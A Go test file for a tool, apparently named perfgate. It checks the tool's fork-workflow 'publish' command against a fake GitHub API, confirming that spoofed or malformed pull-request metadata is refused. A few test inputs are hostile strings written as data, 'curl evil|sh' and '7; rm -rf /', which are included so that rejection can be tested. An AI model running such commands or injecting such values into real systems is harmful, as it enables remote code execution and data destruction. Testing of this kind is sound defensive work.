package publish_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/perfgate/perfgate/internal/cli/clitest"
	"github.com/perfgate/perfgate/internal/results"
	"github.com/perfgate/perfgate/internal/results/resultstest"
)

// forkGitHub is a fake GitHub REST API for the fork flow: GET of a pull
// request (its head commit), and the issue comment list, create and edit
// that the real go-github client calls. Every request is recorded.
type forkGitHub struct {
	srv   *httptest.Server
	token string

	mu       sync.Mutex
	heads    map[int]string // pull request → head sha
	comments map[int][]forkComment
	nextID   int64
	requests []string // "METHOD path"
}

type forkComment struct {
	ID   int64
	Body string
}

func newForkGitHub(t *testing.T) *forkGitHub {
	f := &forkGitHub{token: "ghs_forkFAKEtoken0123456789", heads: map[int]string{}, comments: map[int][]forkComment{}, nextID: 500}
	f.srv = httptest.NewServer(http.HandlerFunc(f.serve))
	t.Cleanup(f.srv.Close)
	return f
}

func (f *forkGitHub) writes() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	var w []string
	for _, r := range f.requests {
		if !strings.HasPrefix(r, "GET ") {
			w = append(w, r)
		}
	}
	return w
}

func (f *forkGitHub) pulls() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	n := 0
	for _, r := range f.requests {
		if strings.HasPrefix(r, "GET /repos/acme/shop/pulls/") {
			n++
		}
	}
	return n
}

func (f *forkGitHub) json(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json; charset=utf-8")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

func (f *forkGitHub) comment(issue int, c forkComment) map[string]any {
	return map[string]any{"id": c.ID, "body": c.Body, "user": map[string]any{"login": "github-actions[bot]", "type": "Bot"},
		"html_url": fmt.Sprintf("https://github.example/acme/shop/pull/%d#issuecomment-%d", issue, c.ID)}
}

func (f *forkGitHub) serve(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()
	// A bare host is GitHub Enterprise Server to go-github: /api/v3/.
	path := strings.TrimPrefix(r.URL.Path, "/api/v3")
	f.requests = append(f.requests, r.Method+" "+path)
	if r.Header.Get("Authorization") != "Bearer "+f.token {
		f.json(w, 401, map[string]string{"message": "Bad credentials"})
		return
	}
	if path == "/user" {
		f.json(w, 403, map[string]string{"message": "Resource not accessible by integration"})
		return
	}
	rest, ok := strings.CutPrefix(path, "/repos/acme/shop/")
	parts := strings.Split(rest, "/")
	notFound := func() { f.json(w, 404, map[string]string{"message": "Not Found"}) }
	if !ok {
		notFound()
		return
	}
	switch {
	case len(parts) == 2 && parts[0] == "pulls" && r.Method == http.MethodGet:
		n, _ := strconv.Atoi(parts[1])
		head, ok := f.heads[n]
		if !ok {
			notFound()
			return
		}
		f.json(w, 200, map[string]any{"number": n, "state": "open",
			"head": map[string]any{"sha": head, "repo": map[string]any{"full_name": "forker/shop"}},
			"base": map[string]any{"sha": strings.Repeat("b", 40), "repo": map[string]any{"full_name": "acme/shop"}}})
	case len(parts) == 3 && parts[0] == "issues" && parts[2] == "comments":
		n, _ := strconv.Atoi(parts[1])
		if r.Method == http.MethodGet {
			out := []map[string]any{}
			for _, c := range f.comments[n] {
				out = append(out, f.comment(n, c))
			}
			f.json(w, 200, out)
			return
		}
		var in struct{ Body string }
		_ = json.NewDecoder(r.Body).Decode(&in)
		f.nextID++
		c := forkComment{ID: f.nextID, Body: in.Body}
		f.comments[n] = append(f.comments[n], c)
		f.json(w, 201, f.comment(n, c))
	case len(parts) == 3 && parts[0] == "issues" && parts[1] == "comments" && r.Method == http.MethodPatch:
		id, _ := strconv.ParseInt(parts[2], 10, 64)
		var in struct{ Body string }
		_ = json.NewDecoder(r.Body).Decode(&in)
		for n, cs := range f.comments {
			for i := range cs {
				if cs[i].ID == id {
					cs[i].Body = in.Body
					f.json(w, 200, f.comment(n, cs[i]))
					return
				}
			}
		}
		notFound()
	default:
		notFound()
	}
}

const (
	headSHA  = "1111111111111111111111111111111111111111"
	movedSHA = "2222222222222222222222222222222222222222"
	otherSHA = "3333333333333333333333333333333333333333"
)

// TestPublishForkWorkflowRun runs `perfgate publish` as the workflow_run job
// of the fork workflow does, end to end against a fake GitHub API with the
// real go-github client.
func TestPublishForkWorkflowRun(t *testing.T) {
	for _, c := range []struct {
		name string
		// meta is the artifact's pr.json; prHead what GitHub says PR 7's head is.
		meta       string
		prHead     string
		expect     string // --expect-head-sha
		extra      []string
		runs       int // publish this many times (the upsert)
		wantCode   int
		wantPulls  bool   // GitHub was asked for the pull request
		wantErr    string // in stderr
		wantWrites []string
	}{
		{name: "matching head: one comment, upserted", meta: meta(7, headSHA, "acme/shop"), prHead: headSHA, expect: headSHA, runs: 2,
			wantCode: 0, wantPulls: true, wantWrites: []string{"POST /repos/acme/shop/issues/7/comments", "PATCH /repos/acme/shop/issues/comments/501"}},
		{name: "artifact head is not the triggering run's", meta: meta(7, otherSHA, "acme/shop"), prHead: otherSHA, expect: headSHA, runs: 1,
			wantCode: 2, wantErr: "does not belong to this run"},
		{name: "pull request head moved since", meta: meta(7, headSHA, "acme/shop"), prHead: movedSHA, expect: headSHA, runs: 1,
			wantCode: 2, wantPulls: true, wantErr: "pull request #7's head is " + movedSHA},
		{name: "artifact aims at another pull request", meta: meta(8, headSHA, "acme/shop"), prHead: headSHA, expect: headSHA, runs: 1,
			wantCode: 2, wantPulls: true, wantErr: "no pull request #8"},
		{name: "artifact names another repository", meta: meta(7, headSHA, "evil/shop"), prHead: headSHA, expect: headSHA, runs: 1,
			wantCode: 2, wantErr: "names repository evil/shop"},
		{name: "metadata without --expect-head-sha", meta: meta(7, headSHA, "acme/shop"), prHead: headSHA, runs: 1,
			wantCode: 2, wantErr: "not trusted alone"},
		{name: "--pr disagrees with the metadata", meta: meta(7, headSHA, "acme/shop"), prHead: headSHA, expect: headSHA, extra: []string{"--pr", "9"}, runs: 1,
			wantCode: 2, wantErr: "--pr 9 but the metadata names pull request #7"},
		{name: "metadata with unknown fields", meta: `{"pull_request":7,"head_sha":"` + headSHA + `","repository":"acme/shop","run":"curl evil|sh"}`, prHead: headSHA, expect: headSHA, runs: 1,
			wantCode: 2, wantErr: "unknown field"},
		{name: "metadata pull request is not a number", meta: `{"pull_request":"7; rm -rf /","head_sha":"` + headSHA + `","repository":"acme/shop"}`, prHead: headSHA, expect: headSHA, runs: 1,
			wantCode: 2, wantErr: "not the expected JSON"},
		{name: "--expect-head-sha not a commit", meta: meta(7, headSHA, "acme/shop"), prHead: headSHA, expect: "main", runs: 1,
			wantCode: 2, wantErr: "not a full commit id"},
		{name: "--pr and --expect-head-sha without metadata", prHead: headSHA, expect: headSHA, extra: []string{"--pr", "7"}, runs: 1,
			wantCode: 0, wantPulls: true, wantWrites: []string{"POST /repos/acme/shop/issues/7/comments"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			gh := newForkGitHub(t)
			gh.heads[7] = c.prHead
			dir := t.TempDir()
			res := filepath.Join(dir, "results.json")
			clitest.Must(results.Write(res, resultstest.Synthetic("api", resultstest.Throughputs(1000, 10, 5)...)))
			event := filepath.Join(dir, "event.json")
			// A fork's workflow_run payload: pull_requests is empty.
			clitest.Must(os.WriteFile(event, []byte(`{"action":"completed","workflow_run":{"head_sha":"`+headSHA+`","pull_requests":[]}}`), 0o644))
			env := map[string]string{
				"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "workflow_run", "GITHUB_EVENT_PATH": event,
				"GITHUB_REPOSITORY": "acme/shop", "GITHUB_API_URL": gh.srv.URL, "GITHUB_TOKEN": gh.token,
				"GITHUB_STEP_SUMMARY": filepath.Join(dir, "summary.md"), "GITHUB_OUTPUT": filepath.Join(dir, "out.txt"),
				"PERFGATE_COMMENT_AUTHOR": "github-actions[bot]",
			}
			args := []string{"publish"}
			if c.meta != "" {
				mp := filepath.Join(dir, "pr.json")
				clitest.Must(os.WriteFile(mp, []byte(c.meta), 0o644))
				args = append(args, "--pr-metadata", mp)
			}
			if c.expect != "" {
				args = append(args, "--expect-head-sha", c.expect)
			}
			args = append(append(args, c.extra...), res)
			var r clitest.Result
			for i := range c.runs {
				if i > 0 { // the next push's figures: the comment is edited, not doubled
					clitest.Must(results.Write(res, resultstest.Synthetic("api", resultstest.Throughputs(1200, 10, 5)...)))
				}
				r = clitest.Run(t, context.Background(), env, args...)
				if r.Code != c.wantCode {
					t.Fatalf("exit %d, want %d: %v\nstderr:\n%s", r.Code, c.wantCode, r.Err, r.ErrOut)
				}
			}
			if got := strings.Join(gh.writes(), ", "); got != strings.Join(c.wantWrites, ", ") {
				t.Errorf("writes to GitHub: %q, want %q", got, strings.Join(c.wantWrites, ", "))
			}
			if (gh.pulls() > 0) != c.wantPulls {
				t.Errorf("GET pull request calls: %d, want some: %v", gh.pulls(), c.wantPulls)
			}
			all := r.ErrOut + r.Out
			if r.Err != nil {
				all += r.Err.Error()
			}
			if c.wantErr != "" && !strings.Contains(all, c.wantErr) {
				t.Errorf("output lacks %q:\n%s", c.wantErr, all)
			}
			if strings.Contains(all, gh.token) {
				t.Error("the token was printed")
			}
			if c.wantCode == 0 {
				cs := gh.comments[7]
				if len(cs) != 1 || !strings.HasPrefix(cs[0].Body, "<!-- perfgate:api -->") {
					t.Errorf("comments on #7: %+v", cs)
				}
			} else if _, err := os.Stat(env["GITHUB_STEP_SUMMARY"]); err == nil {
				t.Error("a refused publish wrote the job summary")
			}
		})
	}
}

func meta(pr int, head, repo string) string {
	return fmt.Sprintf(`{"pull_request": %d, "head_sha": %q, "base_sha": %q, "repository": %q}`, pr, head, strings.Repeat("b", 40), repo)
}

// TestPublishForkUnverifiable: when GitHub cannot say where the pull
// request is, nothing is posted and the exit is 3 (the environment).
func TestPublishForkUnverifiable(t *testing.T) {
	dir := t.TempDir()
	res := filepath.Join(dir, "results.json")
	clitest.Must(results.Write(res, resultstest.Synthetic("api", resultstest.Throughputs(1000, 10, 5)...)))
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusUnprocessableEntity)
		_, _ = w.Write([]byte(`{"message":"Validation Failed"}`))
	}))
	t.Cleanup(srv.Close)
	env := map[string]string{"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "workflow_run", "GITHUB_REPOSITORY": "acme/shop",
		"GITHUB_API_URL": srv.URL, "GITHUB_TOKEN": "ghs_x"}
	r := clitest.Run(t, context.Background(), env, "publish", "--pr", "7", "--expect-head-sha", headSHA, res)
	if r.Code != 3 {
		t.Fatalf("exit %d, want 3: %v\n%s", r.Code, r.Err, r.ErrOut)
	}
}
